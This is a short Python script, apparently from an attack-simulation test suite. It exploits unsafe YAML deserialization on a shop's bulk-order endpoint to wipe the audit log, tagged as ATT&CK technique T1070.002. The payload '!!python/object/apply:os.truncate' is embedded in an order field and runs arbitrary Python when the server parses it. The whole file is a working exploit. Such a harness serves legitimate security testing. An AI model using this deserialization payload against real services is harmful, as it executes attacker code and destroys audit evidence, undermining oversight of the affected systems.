#!/usr/bin/python3 -B
"""Log wiping: the audit log loses its lines, by one call from within Python (T1070.002)."""

from attack import Attack

LOG = "/var/log/shop/audit.log"


def run(attack: Attack) -> bool:
    attack.order()  # so that there is a line in the log
    log = attack.shop.volumes / "audit" / "audit.log"
    before = log.stat().st_size
    text = (f"name: !!python/object/apply:os.truncate ['{LOG}', 0]\naddress: 1 Way\ncard: '1'\n"
            "lines:\n- {product: 1, quantity: 1}\n")
    attack.ask("POST", "/orders/bulk", text.encode(), "application/yaml")
    after = log.stat().st_size
    return attack.prove(after < before, before=before, after=after)


Attack("T1070.002", ["edge", "orders"], [LOG]).main(run)
